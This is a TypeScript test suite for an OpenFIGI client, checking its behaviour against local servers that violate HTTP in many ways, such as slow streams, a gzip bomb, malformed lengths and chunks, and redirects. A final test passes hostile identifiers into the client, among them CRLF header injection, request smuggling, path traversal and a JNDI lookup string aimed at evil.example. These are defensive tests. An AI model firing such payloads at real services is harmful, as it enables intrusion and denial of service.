import { type AddressInfo, createServer, type Server, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { parseConfig } from '../../src/config.ts'
import { PgfigiError } from '../../src/errors/pgfigi_error.ts'
import { OpenFIGIClient } from '../../src/index.ts'
import { silentLogger } from '../../src/log.ts'
import { createInProcessBudget } from '../../src/openfigi/budget.ts'
import { createOpenFigi } from '../../src/openfigi/fetch_round.ts'
import { createFetcher } from '../../src/pipeline/create_fetcher.ts'
import { amount } from '../support/at_length.ts'
import { testKey } from '../support/canaries.ts'
import { withDatabase } from '../support/database.ts'
import { figure } from '../support/figure.ts'
import { makeCusip } from '../support/identifiers_maker.ts'
import { listing } from '../support/listings.ts'
import { startScriptedServer } from '../support/scripted_server.ts'

const test = suite('a server that does not keep to HTTP')

const right = JSON.stringify([{ data: [listing({ ticker: 'RIGHT' })] }])
const none = JSON.stringify([{ warning: 'No identifier found.' }])

const answer = (body: string | Buffer, ...headers: string[]) =>
  Buffer.concat([
    Buffer.from(
      `${['HTTP/1.1 200 OK', `content-length: ${Buffer.byteLength(body)}`, ...headers].join('\r\n')}\r\n\r\n`,
    ),
    Buffer.from(body),
  ])

type Reaction = (socket: Socket) => void

const says =
  (...pieces: (string | Buffer)[]): Reaction =>
  (socket) => {
    for (const piece of pieces) socket.write(piece)
  }
const saysAndEnds =
  (text: string | Buffer): Reaction =>
  (socket) =>
    void socket.end(text)

/** One piece after another, for as long as there is somebody. */
const goesOn =
  (before: string, piece: string, everyMs: number): Reaction =>
  (socket) => {
    socket.write(before)
    const timer = setInterval(() => socket.write(piece), everyMs)
    socket.on('close', () => clearInterval(timer))
  }

const redirect = (status: number, elsewhere: string) =>
  saysAndEnds(
    `HTTP/1.1 ${status} Elsewhere\r\nlocation: ${elsewhere}/v3/mapping\r\ncontent-length: 0\r\n\r\n`,
  )

/** Each is what a request gets. All would be an answer, most of them a negative one, for whoever is not careful. */
const kindsWith = (elsewhere: string): Record<string, Reaction> => ({
  'a body of one byte a second': goesOn('HTTP/1.1 200 OK\r\ncontent-length: 38\r\n\r\n', '[', 1000),
  'headers of one byte a second': goesOn('HTTP/1.1 200 OK\r\nx-a: ', 'a', 1000),
  'a header of one megabyte': says(answer(none, `x-large: ${'a'.repeat(1_000_000)}`)),
  'headers without an end': goesOn('HTTP/1.1 200 OK\r\n', `x-more: ${'a'.repeat(1000)}\r\n`, 10),
  'early hints without an end': goesOn('', 'HTTP/1.1 103 Early Hints\r\nlink: </a>\r\n\r\n', 10),
  'a redirect 307': redirect(307, elsewhere),
  'a redirect 302': redirect(302, elsewhere),
  gzip: says(answer(gzipSync(none), 'content-encoding: gzip')),
  'a gzip bomb': says(answer(gzipSync(Buffer.alloc(100_000_000, ' ')), 'content-encoding: gzip')),
  'two lengths': says(
    `HTTP/1.1 200 OK\r\ncontent-length: 2\r\ncontent-length: ${none.length}\r\n\r\n${none}`,
  ),
  'a bad chunk': says(`HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n1Z\r\n${none}\r\n0\r\n\r\n`),
  'a reset within the body': (socket) => {
    socket.write(`HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n${none}`, () => socket.resetAndDestroy())
  },
  'an end within the chunks': saysAndEnds(
    `HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n${none.length.toString(16)}\r\n${none}\r\n`,
  ),
  'another protocol': saysAndEnds('SSH-2.0-OpenSSH_9.2\r\n'),
  'invalid UTF-8': says(answer(Buffer.from([0x5b, 0x22, 0xe9, 0xff, 0x22, 0x5d]))),
  deflate: says(answer(deflateSync(none), 'content-encoding: deflate')),
  brotli: says(answer(brotliCompressSync(none), 'content-encoding: br')),
  'gzip that nothing announces': says(answer(gzipSync(none))),
  'length and chunks': says(
    `HTTP/1.1 200 OK\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n${none.length.toString(16)}\r\n${none}\r\n0\r\n\r\n`,
  ),
  'a length that is too short': says(`HTTP/1.1 200 OK\r\ncontent-length: 20\r\n\r\n${none}`),
  'a length that is none': says(`HTTP/1.1 200 OK\r\ncontent-length: many\r\n\r\n${none}`),
  'UTF-16': says(answer(Buffer.from(none, 'utf16le'))),
  'an answer and something more': says(answer(`${none}${none}`)),
  'a reset before anything': (socket) => socket.resetAndDestroy(),
  'an end before anything': (socket) => void socket.end(),
  'a reset after the headers': (socket) => {
    socket.write('HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n', () => socket.resetAndDestroy())
  },
  'continue without an end': goesOn('', 'HTTP/1.1 100 Continue\r\n\r\n', 10),
  'another protocol from now on': says(
    'HTTP/1.1 101 Switching\r\nupgrade: x\r\nconnection: upgrade\r\n\r\n',
    none,
  ),
  'nothing (204)': says('HTTP/1.1 204 No Content\r\n\r\n'),
  'not modified (304)': says('HTTP/1.1 304 Not Modified\r\n\r\n'),
  'part of it (206)': says(`HTTP/1.1 206 Partial Content\r\ncontent-length: ${none.length}\r\n\r\n${none}`),
  'a redirect 301': redirect(301, elsewhere),
  'a redirect 303': redirect(303, elsewhere),
  'a redirect 308': redirect(308, elsewhere),
})
const apple = { identifier: { type: 'CUSIP', value: '037833100' }, unfiltered: false } as const

interface RawServer extends AsyncDisposable {
  readonly url: string
  /** From now on it answers as it should. */
  recover(): void
  readonly requests: string[]
}

/** Reacts to every whole request. */
async function startRawServer(reaction: Reaction): Promise<RawServer> {
  const sockets = new Set<Socket>()
  const requests: string[] = []
  let react = reaction
  const server: Server = createServer((socket) => {
    sockets.add(socket)
    socket.on('error', () => {})
    socket.on('close', () => sockets.delete(socket))
    let received = ''
    socket.on('data', (chunk) => {
      received += chunk
      if (!received.endsWith(']')) return
      requests.push(received)
      received = ''
      react(socket)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    recover() {
      react = says(answer(right))
    },
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy()
      server.close()
    },
  }
}

/** Where something goes on and on only the deadline helps; whatever else it is has to show at once. */
const deadlineOf = (kind: string) => (/a second|without an end|from now on/.test(kind) ? 1500 : 30_000)

test('gives an error that may be over the next time, within the deadline, and never a negative', async () => {
  await using elsewhere = await startScriptedServer({ body: JSON.parse(none) })
  const kinds = Object.entries(kindsWith(elsewhere.url))
  const work = kinds.map(async ([kind, reaction]) => {
    await using server = await startRawServer(reaction)
    await using openfigi = createOpenFigi({
      url: server.url,
      apiKey: testKey,
      jobsPerRequest: 10,
      timeoutMs: deadlineOf(kind),
      preference: ['US', 'home', 'any'],
      budget: createInProcessBudget({ capacity: 1000, windowMs: 1000 }),
      retries: { attempts: 1 },
    })
    const began = performance.now()
    const outcome = await openfigi.fetchRound([apple]).catch((error: Error) => error)
    const milliseconds = performance.now() - began
    assert.instance(outcome, PgfigiError, kind)
    const { message, retryable } = outcome as PgfigiError
    assert.not.match(message, testKey, kind)
    assert.is(retryable, !/redirect|not modified/.test(kind), kind)
    assert.ok(milliseconds < 25_000, `${kind}: ${milliseconds} ms`)
    console.log(`    ${kind}: ${message}`)
  })
  await Promise.all(work)
  assert.is(elsewhere.requests.length, 0, 'no redirect is followed')
  figure(`${kinds.length} breaches of HTTP, each an error within the deadline`)
})

test('gets nothing stored, and everything is known soon after it has come to its senses', () =>
  withDatabase(async ({ sql, url }) => {
    await using elsewhere = await startScriptedServer({ body: JSON.parse(none) })
    const reactions = Object.values(kindsWith(elsewhere.url))
    let turn = 0
    await using server = await startRawServer((socket) => reactions[turn++ % reactions.length]?.(socket))
    const options = {
      dbUrl: url,
      apiUrl: server.url,
      apiKey: testKey,
      timeoutMs: 300,
      rateLimit: '1000/1s',
      jobsPerRequest: 1,
      logger: silentLogger,
    }
    await using client = new OpenFIGIClient(options)
    const values = Array.from({ length: amount(20, 60) }, (_, n) => makeCusip(n))
    const failed = await Promise.all(values.map((value) => client.resolve(value)))
    for (const { status, error } of failed) assert.equal([status, typeof error], ['miss', 'string'])
    const rows = () => sql<{ ticker: string | null }[]>`select ticker from public.security_mappings`
    assert.equal([...(await rows())], [])
    server.recover()
    const recovered = performance.now()
    const worker = createFetcher(
      parseConfig({ OPENFIGI_API_URL: server.url, OPENFIGI_JOBS_PER_REQUEST: '1' }),
      {
        sql,
        logger: silentLogger,
      },
    )
    try {
      while ((await rows()).length < values.length && performance.now() - recovered < 90_000) {
        await worker.drain().catch(() => {})
        await sleep(50)
      }
    } finally {
      await worker.close()
    }
    assert.is((await rows()).length, values.length)
    assert.ok((await rows()).every(({ ticker }) => ticker === 'RIGHT'))
    const seconds = (performance.now() - recovered) / 1000
    figure(`${turn} of them in turns: nothing stored; all known ${seconds.toFixed(1)} s after the end of it`)
  }))

test('cannot answer the next request beforehand', () =>
  withDatabase(async ({ sql, url }) => {
    await using server = await startRawServer(
      says(Buffer.concat([answer(right), answer(none), answer(none)])),
    )
    await using client = new OpenFIGIClient({
      dbUrl: url,
      apiUrl: server.url,
      apiKey: testKey,
      logger: silentLogger,
    })
    for (let n = 0; n < 10; n += 1) assert.is((await client.resolve(makeCusip(n))).ticker, 'RIGHT')
    const negatives = await sql`select from public.security_mappings where has_no_results`
    assert.is(negatives.length, 0)
  }))

test('nor does it see anything in a request but what is meant for it, whatever is looked up', () =>
  withDatabase(async ({ url }) => {
    await using server = await startRawServer(says(answer(right)))
    await using client = new OpenFIGIClient({
      dbUrl: url,
      apiUrl: server.url,
      apiKey: testKey,
      logger: silentLogger,
    })
    const hostile = [
      '037833100\r\nX-Evil: 1',
      '037833100/../../admin',
      '037833100?x=1',
      '037833100","exchCode":"GR',
      'https://evil.example/037833100',
      '037833100\0',
      '037833100 HTTP/1.1\r\nhost: evil.example\r\n\r\nGET /',
      '%0d%0a037833100',
      '$' + '{jndi:ldap://evil.example}',
    ]
    for (const input of hostile) {
      await client.resolve(input)
      await client.resolve({ type: 'CUSIP', value: input })
      await client.resolve({ type: input, value: '037833100' })
    }
    await client.resolve('037833100')
    assert.ok(server.requests.length > 0)
    for (const request of server.requests) {
      const [head = '', body = ''] = request.split('\r\n\r\n')
      const lines = head.split('\r\n')
      assert.is(lines[0], 'POST /v3/mapping HTTP/1.1')
      assert.equal(
        lines
          .slice(1)
          .map((line) => line.split(':')[0]?.toLowerCase())
          .sort(),
        [
          'accept',
          'accept-encoding',
          'connection',
          'content-length',
          'content-type',
          'host',
          'user-agent',
          'x-openfigi-apikey',
        ],
      )
      assert.equal(JSON.parse(body), [{ idType: 'ID_CUSIP', idValue: '037833100', exchCode: 'US' }])
    }
  }))

test.run()
